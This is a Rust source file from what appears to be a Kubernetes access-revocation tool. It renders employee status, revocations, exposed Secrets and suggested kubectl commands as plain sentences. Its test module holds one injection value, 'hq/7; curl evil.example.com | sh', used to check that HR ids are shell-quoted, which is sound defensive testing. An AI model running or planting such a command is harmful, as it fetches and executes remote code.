//! The answer in plain sentences. HR ids stand for people; names only where they are asked for.

use jiff::Timestamp;

use super::answer::{Answer, Command, Freshness, Manages, Next, Role, Says, Source, Told};
use super::edit::word;
use super::owned::{Owned, Thing, Whose};
use super::turns::{RecordTurn, Turn};
use crate::api::policy::Mode;
use crate::api::revocation::{Exposure, ExposureTier, FirstFreeze, HookOutcome, HookRun, Operation, Phase, Sessions};
use crate::cli::terminal::plain;
use domain::identity::Account;
use domain::lifecycle::{State, Why};
use domain::roster::EmploymentState;

/// Most objects that are listed.
const MAX_LISTED: usize = 20;
/// Digits of a digest that are shown where nobody has to type it.
const DIGITS: usize = 12;

/// A part of the answer.
#[derive(Debug, PartialEq, Eq)]
pub enum Part {
    /// A sentence, or several.
    Says(String),
    /// Lines under a title.
    Listed(&'static str, Vec<String>),
    /// What the reader can do.
    Do(Vec<Advice>),
}

/// Something that the reader can do.
#[derive(Debug, PartialEq, Eq)]
pub struct Advice {
    /// The command, as a shell takes it, where there is one.
    pub command: Option<String>,
    /// All that is said of it, with the command in it.
    pub text: String,
}

/// The whole answer.
pub fn answer(answer: &Answer, unmask: bool) -> String {
    let parts: Vec<String> = parts(answer, unmask)
        .into_iter()
        .map(|part| match part {
            Part::Says(text) => text,
            Part::Listed(title, lines) => section(title, lines),
            Part::Do(advice) => section(TO_DO, advice.into_iter().map(|one| one.text)),
        })
        .collect();
    parts.iter().flat_map(|part| part.lines()).map(plain).collect::<Vec<_>>().join("\n")
}

/// The title of what the reader can do.
pub const TO_DO: &str = "What you can do";

/// The answer in its parts.
pub fn parts(answer: &Answer, unmask: bool) -> Vec<Part> {
    let listed = |title, lines: Vec<String>| Part::Listed(title, lines);
    let mut parts = vec![Part::Says(who(answer, unmask))];
    parts.extend(standing(answer).into_iter().map(Part::Says));
    parts.push(listed("What the HR records say", answer.says.iter().map(says).collect()));
    parts.push(listed("How new that is", answer.sources.iter().map(source).collect()));
    parts.push(Part::Says(manages(&answer.policy)));
    parts.extend(answer.hold.as_ref().map(|hold| {
        Part::Says(format!("A hold keeps their access as it is until {:.0}: {}", hold.until, hold.reason))
    }));
    parts.push(owned(&answer.owned));
    parts.extend(access(answer, unmask));
    parts.extend(answer.position.lines(&answer.person, unmask).into_iter().map(Part::Says));
    parts.push(match answer.next.as_slice() {
        [] => Part::Says("Nothing is to come that is known of.".to_owned()),
        next => listed(
            "What happens next, unless a new response says otherwise",
            next.iter().map(|one| coming(one, &answer.policy)).collect(),
        ),
    });
    parts.push(match answer.commands.as_slice() {
        [] => Part::Says("There is nothing for you to do.".to_owned()),
        commands => Part::Do(commands.iter().map(|one| advice(one, &answer.namespace)).collect()),
    });
    parts
}

fn section(title: &str, lines: impl IntoIterator<Item = String>) -> String {
    let lines: Vec<_> = lines.into_iter().map(|line| format!("  {}", line.replace('\n', "\n    "))).collect();
    format!("{title}:\n{}", lines.join("\n"))
}

fn who(answer: &Answer, unmask: bool) -> String {
    let several = if answer.records.len() == 1 { "" } else { "s" };
    let names: Vec<_> = answer.name.iter().flatten().filter(|_| unmask).cloned().collect();
    let names = if names.is_empty() { String::new() } else { format!(", {}", names.join(", ")) };
    format!("{} is HR record{several} {}{names}.", answer.person, answer.records.join(", "))
}

fn standing(answer: &Answer) -> Vec<String> {
    let Some(standing) = &answer.standing else {
        return vec![
            "No trusted response has said anything of them yet: nothing is done, and access stands.".to_owned(),
        ];
    };
    let (state, since) = (standing.state, standing.since);
    let together = together(answer, standing);
    let access = if matches!(state, State::Leave | State::Suspended) { access_on_leave(answer) } else { "" };
    let mut lines = vec![format!("{}{access} ({} since {since:.0}).{together}", in_words(state), state.as_str())];
    lines.extend(standing.out.map(|out| format!("They are out of the policy's scope: {}.", out.words())));
    lines.extend(standing.leaves_scope.map(|out| {
        format!(
            "The response that says they leave would also put them out of scope ({}): a human decides.",
            out.words()
        )
    }));
    if let Some(left) = &standing.left {
        let run = left.run.as_deref().map(|run| format!(", and counted in run {run}")).unwrap_or_default();
        lines.push(format!("It takes effect from {:.0}; it was seen at {:.0}{run}.", left.effective, left.seen));
        let late = super::list::late((left.effective, left.seen));
        if !late.is_empty() && !left.baseline && standing.why != Why::Declared {
            lines.push(format!("HR reported it {late} late."));
        }
        if left.baseline {
            lines.push(
                "They had left at the baseline, when first seen, or when they came into scope: revoking needs approval."
                    .to_owned(),
            );
        }
        if left.announced {
            lines.push(
                "Two responses a day apart announced the day, so it does not count against the limits.".to_owned(),
            );
        }
    }
    lines
}

/// What became of the access of somebody on leave.
fn access_on_leave(answer: &Answer) -> &'static str {
    let phase = |wanted: Phase| answer.told.iter().any(|told| told.present && told.phase == wanted);
    match (phase(Phase::Frozen), phase(Phase::Revoked)) {
        (true, _) => ", and what they would change in the cluster is refused; they can still read",
        (false, true) => ", and what was theirs is revoked until they are back",
        (false, false) => ", and access stands",
    }
}

/// What a state is, for somebody who asks why.
const fn in_words(state: State) -> &'static str {
    match state {
        State::PreHire => "They start later",
        State::Active => "They work here",
        State::Suspended => "They are suspended or inactive",
        State::Leave => "They are on leave",
        State::Terminated => "They have left",
        State::OutOfScope => "They are out of the policy's scope: nothing is done, and access stands",
        State::Unknown => "It cannot be told whether they work here: nothing is done, and access stands",
    }
}

/// Why the state follows from all records together, where none of them says it alone.
fn together(answer: &Answer, standing: &EmploymentState) -> String {
    let ended = match (answer.says.len(), standing.state) {
        (0 | 1, _) => "",
        (_, State::Terminated) => " All of their records have ended.",
        _ => " They have left only once all of their records have ended.",
    };
    if answer.says.iter().any(|says| says.why == Some(standing.why)) {
        return ended.to_owned();
    }
    format!("{ended} {}", sentence(standing.why))
}

/// Each reason, with what follows from it.
const fn sentence(why: Why) -> &'static str {
    match why {
        Why::Active => "The record says active, and names no last day.",
        Why::LeavesLater => "The record says active, with a last day that is still to come.",
        Why::EarlierEmployment => {
            "The record says active; its last day lies before its first day, so it belongs to an earlier employment and ends nothing."
        }
        Why::StartsLater => "The first day of work is still to come.",
        Why::Contradiction => {
            "The record says active, but its last day has passed and was never announced: one of the two is wrong, so nobody's access ends by it."
        }
        Why::LastDayPassed => "The last day has passed.",
        Why::Terminated => "The record says terminated.",
        Why::Urgent => "The record says terminated for a reason that means at once, so its last day is not waited for.",
        Why::ContractEnded => {
            "The record says active; the planned end of the contract has passed, and the policy says that it ends nothing."
        }
        Why::SwitchedOff => {
            "The account has been switched off for as long as the policy asks for (saysWhoLeft), and nothing else says who works here."
        }
        Why::DeclaredActive => {
            "Somebody declared that they work here, whatever HR says: see spec.declared of the Person."
        }
        Why::DeclaredLeave => {
            "Somebody declared that they are on leave, whatever HR says: see spec.declared of the Person."
        }
        Why::DeclaredSuspended => {
            "Somebody declared that they are suspended, whatever HR says: see spec.declared of the Person."
        }
        Why::Declared => "Somebody declared that they have left, whatever HR says: see spec.declared of the Person.",
        Why::TerminatedLater => {
            "The record says terminated, as of a last day that is still to come: they work until then."
        }
        Why::TooFarAhead => {
            "The record says terminated as of a day more than a year ahead, which may be a mistyped year, so nobody's access ends by it."
        }
        Why::EndsBeforeStart => {
            "The record says terminated, but its last day lies before its first day and belongs to an earlier employment, so nobody's access ends by it."
        }
        Why::OnLeave => "The record says on leave.",
        Why::Suspended => "The record says suspended or inactive.",
        Why::Unmapped => "The status is empty, or a word without a meaning here, so nobody's access ends by it.",
        Why::NothingSaid => {
            "The source gives neither a status nor a last day: they are employed as long as it lists them."
        }
        Why::NextFollows => "One employment ends, and the next begins within the gap that is no exit.",
        Why::Between => {
            "One employment has ended, and the next begins within the gap that is no exit: nothing is revoked."
        }
        Why::NotNamed => {
            "No trusted response has ever named one of their records, so it cannot be told whether that one goes on."
        }
        Why::NotMigrated => {
            "The connection of the record was replaced, and no record of the new one is theirs, so it cannot be told whether they work on."
        }
        Why::PolicyConflict => {
            "They are in the scope of two policies over one connection, so nothing new is decided of them until the scopes are separate: see the condition ScopesSeparate of the policies."
        }
        Why::NoEmployment => {
            "All of their records are of corroborating connections, which do not say who works here, so nobody's access ends by it."
        }
        Why::OtherSourceStale => {
            "Every record has ended, but another connection of the policy has had no trusted response for too long, and might say that they work on."
        }
        Why::Conflict => {
            "Name, address and first day all changed at once, so the id may be another human's by now: nothing is taken over, and nobody's access ends by it."
        }
        Why::Other => "The reason is one of another version of Rollcall; the next trusted response replaces it.",
    }
}

fn says(says: &Says) -> String {
    let mut line = format!("{} {}.", says.record, role(says.role));
    let told = says.why.filter(|_| !matches!(says.role, Role::Tells(_)));
    if let (Some(why), Some(since)) = (told, says.since) {
        line.push_str(&format!(" {} It has said so since {since:.0}.", sentence(why)));
    }
    let days = [("first day", says.start), ("last day", says.last_day)];
    let days: Vec<_> = days.into_iter().filter_map(|(what, day)| Some(format!("{what} {}", day?))).collect();
    if !days.is_empty() {
        line.push_str(&format!("\n{}", days.join(", ")));
        if let Some(notice) = says.notice {
            let again = if notice.confirmed { ", and again about a day later or more" } else { "" };
            line.push_str(&format!("; announced at {:.0}{again}", notice.at));
        }
    }
    says.account.iter().for_each(|fact| line.push_str(&format!("\n{fact}")));
    if let Some(out) = says.out {
        line.push_str(&format!("\nout of scope: {}", out.words()));
    }
    if let Some(since) = says.missing_since {
        line.push_str(&format!(
            "\nTrusted responses no longer name it since {since:.0}. That ends nothing: what was last said stands."
        ));
    }
    if let Some(word) = &says.word {
        let read = word.read.map(|read| format!(", read at {read:.0}")).unwrap_or_default();
        line.push_str(&format!("\nby response {}{read}", digest(&word.response)));
    }
    line
}

const fn role(role: Role) -> &'static str {
    match role {
        Role::Keeps(State::Leave) => "keeps them on leave",
        Role::Keeps(State::Suspended) => "keeps them suspended, and not ended",
        Role::Keeps(_) => "keeps them active",
        Role::Begins => "begins later",
        Role::Ended => "has ended",
        Role::CannotTell => "cannot be told, which holds",
        Role::NeverNamed => "was never named by a trusted response, which holds",
        Role::Tells(Some(Account::Enabled)) => "is an account that is on, which decides nothing",
        Role::Tells(Some(Account::Disabled)) => "is an account that is off, which decides nothing",
        Role::Tells(None) => "is an account of which it is not known whether it is on, and decides nothing",
        Role::NotRead => "is of a connection that the policy does not read, which holds",
    }
}

fn digest(text: &str) -> String {
    text.chars().take(DIGITS).collect()
}

fn source(source: &Source) -> String {
    let mut line = match source.freshness {
        Freshness::Gone => format!("{}: there is no such HRConnection; announced last days go on.", source.name),
        Freshness::NeverTrusted => format!("{}: no response of it has been trusted yet.", source.name),
        Freshness::Fresh(at) => format!("{}: its trusted response of {at:.0} is fresh.", source.name),
        Freshness::Stale(at) => {
            format!("{}: its trusted response of {at:.0} is older than trust.staleAfter allows.", source.name)
        }
    };
    if let Some((reason, response)) = &source.held {
        let reason = reason.map_or("a reason of another version", |reason| reason.as_str());
        line.push_str(&match response {
            Some(_) => format!("\nIts newest response is held ({reason}): what the one before said stands."),
            None => {
                format!("\nIts newest attempt brought no whole response ({reason}): what the one before said stands.")
            }
        });
    }
    line
}

fn manages(policy: &Manages) -> String {
    match policy {
        Manages::Nobody => "No policy manages them yet.".to_owned(),
        Manages::Gone(name) => {
            format!(
                "The policy {name} that managed them is gone: nothing more happens to them until one reads their records."
            )
        }
        Manages::Policy { name, mode, settled, remove_after: _, trouble } => {
            let mode = match mode {
                Mode::Observe => "Observe: it plans and reports, and ends nobody's access",
                Mode::Enforce => "Enforce",
            };
            let settled = match settled {
                true => "",
                false => {
                    " Its baseline is not settled: nobody becomes a leaver, and nothing is released, before it is."
                }
            };
            let trouble = trouble.as_ref().map(|why| format!(" It is not ready: {why}")).unwrap_or_default();
            format!("Policy {name} ({mode}) manages them.{settled}{trouble}")
        }
    }
}

fn owned(owned: &Owned) -> Part {
    match owned {
        Owned::NotAllowed => Part::Says(
            "What they own in the cluster is not known: you may not list ServiceAccounts and bindings of all namespaces."
                .to_owned(),
        ),
        Owned::Things(things) if things.is_empty() => {
            Part::Says("Nothing in the cluster names them: no owner annotation, and no binding.".to_owned())
        }
        Owned::Things(things) => {
            let more = things.len().saturating_sub(MAX_LISTED);
            let rest = (more > 0).then(|| format!("and {more} more"));
            let lines = things.iter().take(MAX_LISTED).map(thing).chain(rest);
            Part::Listed("What names them in the cluster", lines.collect())
        }
    }
}

fn thing(thing: &Thing) -> String {
    let whose = match thing.whose {
        Whose::Theirs => "",
        Whose::WorksHere => ": in use by another HR record of the same human",
        Whose::Ambiguous => ": may also be somebody else's, who works here",
    };
    format!("{}{whose}", thing.what)
}

/// What happened to their access, and what of it waits.
fn access(answer: &Answer, unmask: bool) -> Vec<Part> {
    let mut parts: Vec<Part> = answer.access.iter().map(|shown| Part::Says(shown.message.clone())).collect();
    let (present, earlier): (Vec<_>, Vec<_>) = answer.told.iter().partition(|told| told.present);
    if !present.is_empty() {
        let edits = |what: &str| edit(&answer.owned, what, unmask);
        parts.push(Part::Listed("Revocations", present.into_iter().map(|one| told(one, edits)).collect()));
    }
    if !earlier.is_empty() {
        let names = earlier.iter().map(|told| {
            let not_undone = told.not_undone.as_ref().map(|what| format!(": not undone by itself: {what}"));
            format!("{} ({}){}", told.name, told.phase.as_str(), not_undone.unwrap_or_default())
        });
        parts.push(Part::Listed("Revocations of an earlier termination or leave", names.collect()));
    }
    parts
}

/// The command that takes them out of a shared binding. It holds user names, so it is shown to who asks for names.
fn edit(owned: &Owned, what: &str, unmask: bool) -> Option<String> {
    let Owned::Things(things) = owned else { return None };
    let edit = things.iter().find(|thing| thing.what == what)?.edit.clone()?;
    Some(if unmask { edit } else { "with --unmask, the command that takes them out is printed here".to_owned() })
}

/// What became of their user names, which are frozen before anything else ends.
fn frozen_first(freeze: &FirstFreeze) -> String {
    match (freeze.acted, freeze.lifted, &freeze.message) {
        (_, Some(at), _) => format!("their user names were frozen, and the freeze was lifted at {at:.0}"),
        (Some(at), None, _) if freeze.verdicts.is_empty() => {
            format!("their user names were frozen at {at:.0}; none of them is theirs alone any more")
        }
        (Some(at), None, _) => format!(
            "user names frozen since {at:.0}: {}. What they would change is refused, by whatever credential; reads are not",
            freeze.verdicts.len()
        ),
        (None, None, message) => format!("user names {}", message.as_deref().unwrap_or("not frozen yet")),
    }
}

fn told(told: &Told, edit: impl Fn(&str) -> Option<String>) -> String {
    let late = match (told.late, told.evicts) {
        (true, true) => ", pods in which a session of theirs may be open",
        (true, false) => ", found after the first plan",
        (false, _) => "",
    };
    let objects = match told.objects {
        1 => "1 object".to_owned(),
        objects => format!("{objects} objects"),
    };
    let how = match (told.phase, &told.gate) {
        (Phase::Held, Some(gate)) => {
            let reason = gate.reason.map_or("", |reason| reason.as_str());
            format!("held by the gate {reason}: {}", gate.message)
        }
        (Phase::Held, None) => "held: it is being planned".to_owned(),
        (Phase::Released, _) => "released: every gate is open, and the revoker carries it out".to_owned(),
        (Phase::Revoked, _) => {
            told.verified.map_or("done".to_owned(), |at| format!("done, and seen to be refused at {at:.0}"))
        }
        (Phase::Failed, _) => "failed: not every target is proved refused".to_owned(),
        (Phase::Cancelled, _) => "cancelled: the reason for it is gone".to_owned(),
        (Phase::Frozen, _) => "in force: what they would change is refused, and reads are not".to_owned(),
        (Phase::Lifted, _) => "lifted: nothing is refused by it any more".to_owned(),
    };
    let mut line = format!("{} ({}{late}, {objects}): {how}", told.name, told.operation.as_str());
    for thing in told.remaining.iter().take(MAX_LISTED) {
        line.push_str(&format!("\nremains: {} ({}): {}", thing.what, thing.why, thing.advice));
        line.extend(edit(&thing.what).map(|command| format!("\n  {command}")));
    }
    line.extend(told.freeze.as_ref().map(|freeze| format!("\n{}", frozen_first(freeze))));
    line.extend(approvals(told).map(|said| format!("\n{said}")));
    line.extend(told.hooks.iter().map(|run| format!("\n{}", hook(run))));
    line.extend(told.exposure.as_ref().filter(|exposure| !exposure.secrets.is_empty()).map(exposed));
    line.extend(told.exposure.as_ref().and_then(|exposure| exposure.sessions.as_ref()).map(sessions));
    if told.returned > 0 {
        line.push_str(&format!("\n{} of what it ended came back", told.returned));
    }
    if told.again > 0 {
        line.push_str(&format!("\naccess is back: {} of what it ended works again, see status.recheck", told.again));
    }
    if told.untold > 0 {
        let words = "of what it ended it cannot be told whether it still holds, see status.recheck.unproved";
        line.push_str(&format!("\n{} {words}", told.untold));
    }
    line
}

/// Who approved, where two people have to.
fn approvals(told: &Told) -> Option<String> {
    let (given, by_two) = &told.approvals;
    match given.as_slice() {
        [first, second] => Some(format!("approved by {first} and {second}")),
        [first] if *by_two => Some(format!("approved by {first}; another person has to approve it too")),
        _ => None,
    }
}

/// `hook end-database-user (After): done at 2026-03-01T00:00:09Z, 1 attempt`.
fn hook(run: &HookRun) -> String {
    let at = run.ended.map(|at| format!(" at {at:.0}")).unwrap_or_default();
    let how = match run.outcome {
        HookOutcome::Waiting => "not begun yet".to_owned(),
        HookOutcome::Begun => "at work".to_owned(),
        HookOutcome::Done => format!("done{at}"),
        HookOutcome::Failed => format!("failed{at}"),
        HookOutcome::TimedOut => format!("took too long{at}"),
        HookOutcome::NotStarted => format!("could not be started{at}"),
        HookOutcome::Lost => format!("ended, and nobody saw how{at}"),
        HookOutcome::Skipped => format!("left out{at}"),
    };
    let attempts = match run.attempts {
        0 => String::new(),
        1 => ", 1 attempt".to_owned(),
        more => format!(", {more} attempts"),
    };
    let why = run.message.as_ref().map(|message| format!(": {message}")).unwrap_or_default();
    let again = run.again.map(|again| format!("; tried again at {again:.0}")).unwrap_or_default();
    format!("hook {} ({}): {how}{attempts}{why}{again}", run.name, run.when.as_str())
}

/// Secrets that they could read, a few of them by name.
fn exposed(exposure: &Exposure) -> String {
    let each = exposure.secrets.iter().map(|one| {
        let place =
            if one.namespace.is_empty() { "the cluster".to_owned() } else { format!("namespace {}", one.namespace) };
        match (one.tier, one.name.as_str()) {
            (ExposureTier::Exec, "") => format!("what pods of {place} use, by exec or attach"),
            (ExposureTier::Exec, name) => format!("{}/{name}, by exec or attach", one.namespace),
            (_, "") => format!("every Secret of {place}"),
            (_, name) if one.namespace.is_empty() => format!("{name} of every namespace"),
            (_, name) => format!("{}/{name}", one.namespace),
        }
    });
    let listed: Vec<String> = each.take(MAX_LISTED).collect();
    let more = exposure.secrets.len().saturating_sub(listed.len()).saturating_add(exposure.more as usize);
    let more = if more > 0 { format!("; and {more} more, in status.exposure") } else { String::new() };
    format!(
        "\nthey could read Secrets that are not theirs: {}{more}. What was copied works until it is rotated",
        listed.join("; ")
    )
}

/// Where a session of theirs may be open, a few places by name.
fn sessions(sessions: &Sessions) -> String {
    let everywhere = sessions.everywhere.then(|| "any pod of the cluster".to_owned());
    let nodes = sessions.nodes.then(|| "any pod of a node, by nodes/proxy".to_owned());
    let namespaces = sessions.namespaces.iter().map(|namespace| format!("any pod of namespace {namespace}"));
    let each = everywhere.into_iter().chain(nodes).chain(namespaces).chain(sessions.pods.iter().cloned());
    let listed: Vec<String> = each.take(MAX_LISTED).collect();
    let all = sessions.namespaces.len().saturating_add(sessions.pods.len()).saturating_add(sessions.more as usize);
    let all = all.saturating_add(usize::from(sessions.everywhere)).saturating_add(usize::from(sessions.nodes));
    let more = all.saturating_sub(listed.len());
    let more = if more > 0 { format!("; and {more} more, in status.exposure.sessions") } else { String::new() };
    format!(
        "\nthey could exec, attach or port-forward in {}{more}. What they opened goes on until it is closed, or its pod ends",
        listed.join("; ")
    )
}

fn coming(next: &Next, policy: &Manages) -> String {
    let at = next.at();
    match next {
        Next::Turn(turn) => coming_turn(turn, policy),
        Next::Due(name, Operation::Cut, _) => format!("{at:.0}: {name} may revoke, once its gates are open"),
        Next::Due(name, Operation::Remove, _) => {
            format!("{at:.0}: {name} may delete what was recreated, once its gates are open (removeAfter)")
        }
        Next::Due(name, Operation::Freeze, _) => format!("{at:.0}: {name} may freeze, once its gates are open"),
        Next::Opens(name, _) => format!("{at:.0}: the gate of {name} opens"),
        Next::HoldEnds(_) => format!("{at:.0}: the hold ends"),
        Next::Expires(what, _) => format!("{at:.0}: {what} ends by itself"),
        Next::Read(name, _) => format!("{at:.0}: {name} is read again"),
    }
}

/// `2026-03-31T22:00:00Z, 2026-04-01 00:00 in Europe/Madrid: …`.
fn coming_turn(turn: &Turn, policy: &Manages) -> String {
    let mut what: Vec<String> = turn.records.iter().map(record_turn).collect();
    what.extend(turn.person.map(|(state, _)| match state {
        State::Terminated => format!("they have left: {}", revoked(policy)),
        State::Active => "they work here".to_owned(),
        State::PreHire => "they start later: nothing is revoked".to_owned(),
        State::Leave | State::Suspended | State::OutOfScope | State::Unknown => {
            format!("they are {}: nothing is revoked", state.as_str())
        }
    }));
    if turn.person.is_none() {
        what.push("nothing changes for the person".to_owned());
    }
    format!("{:.0}{}: {}", turn.at, there(turn.at, &turn.zone), what.join("; "))
}

/// What a policy does to the access of a leaver.
fn revoked(policy: &Manages) -> String {
    match policy {
        Manages::Policy { mode: Mode::Enforce, remove_after, .. } => format!(
            "their access is revoked at once if every gate is open, and what was recreated is deleted {remove_after} later"
        ),
        Manages::Policy { mode: Mode::Observe, .. } => "the policy observes, and access stands".to_owned(),
        Manages::Nobody | Manages::Gone(_) => "no policy acts, and access stands".to_owned(),
    }
}

fn record_turn(turn: &RecordTurn) -> String {
    let day = turn.last_day.map(|day| format!(" (last day {day})")).unwrap_or_default();
    match turn.state {
        State::Terminated => format!("{} has ended{day}", turn.record),
        State::Active => format!("{} has begun{day}", turn.record),
        other => format!("{} is {}", turn.record, other.as_str()),
    }
}

/// The instant by the clock on the wall there; nothing where the zone is not known.
fn there(at: Timestamp, zone: &str) -> String {
    let local = at.in_tz(zone).map(|local| local.strftime("%Y-%m-%d %H:%M").to_string());
    local.map(|local| format!(", {local} in {zone}")).unwrap_or_default()
}

/// A command, or what to do where there is none. Ids of HR systems may hold anything, and are quoted for a shell.
pub fn advice(command: &Command, namespace: &str) -> Advice {
    let run = |command: String, more: &str| Advice { text: format!("{command}{more}"), command: Some(command) };
    let say = |before: &str, command: String, after: &str| Advice {
        text: format!("{before}{command}{after}"),
        command: Some(command),
    };
    let by_hand = |text: String| Advice { text, command: None };
    match command {
        Command::Approve(name) => run(format!("kubectl rollcall approve {name}"), ""),
        Command::ApproveBatch(batch) => {
            run(format!("kubectl rollcall approve --batch {batch}"), &format!(", or reject --batch {batch} --reason …"))
        }
        Command::Waiting => {
            say("approve or reject what waits: ", format!("kubectl -n {namespace} get revocations"), "")
        }
        Command::Unreject(name) => {
            run(format!("kubectl rollcall reject --undo {name}"), ", if they are to be revoked after all")
        }
        Command::Retry(name) => {
            run(format!("kubectl rollcall retry {name}"), ", after correcting what its verdicts and steps name")
        }
        Command::LiftStop => run("kubectl rollcall stop --lift".to_owned(), ""),
        Command::LiftHold(person) => {
            run(format!("kubectl -n {namespace} edit person {person}"), ", to end spec.hold sooner")
        }
        Command::Connection(name) => run(format!("kubectl -n {namespace} describe hrconnection {name}"), ""),
        Command::Accept(name, response) => {
            run(format!("kubectl rollcall accept {name} --response {response}"), ", if that response is right")
        }
        Command::Policy(name) => run(format!("kubectl -n {namespace} describe syncpolicy {name}"), ""),
        Command::CorrectInHr(record) => by_hand(format!("correct {record} in the HR system")),
        Command::MapStatuses(connection) => {
            by_hand(format!("map the words of status.unmappedStatuses of hrconnection {connection}"))
        }
        Command::Merge(record) => by_hand(format!(
            "kubectl rollcall merge {} CONNECTION/ID, with their record of the new connection",
            word(record)
        )),
        Command::Split(record) => say(
            &format!("add the connection of {record} to the policy, or wait for it, or "),
            format!("kubectl rollcall split {}", word(record)),
            "",
        ),
        Command::Revocation(name) => say(
            "end by hand what remains, as ",
            format!("kubectl -n {namespace} get revocation {name} -o yaml"),
            " names it",
        ),
        Command::Erase(person) => {
            run(format!("kubectl rollcall erase {person}"), ", once nothing about them is needed any more")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_id_of_an_hr_system_is_one_word_of_a_command() {
        let hostile = Command::Split("hq/7; curl evil.example.com | sh".to_owned());
        let advice = advice(&hostile, "rollcall");
        assert_eq!(advice.command.as_deref(), Some("kubectl rollcall split 'hq/7; curl evil.example.com | sh'"));
        assert!(advice.text.contains(advice.command.as_deref().unwrap()), "{}", advice.text);
    }

    #[test]
    fn every_reason_and_state_has_a_sentence_of_its_own() {
        let mut sentences: Vec<_> = Why::ALL.iter().map(|why| sentence(*why)).collect();
        assert!(sentences.iter().all(|text| text.ends_with('.')), "{sentences:?}");
        sentences.sort_unstable();
        sentences.dedup();
        assert_eq!(sentences.len(), Why::ALL.len());
    }
}
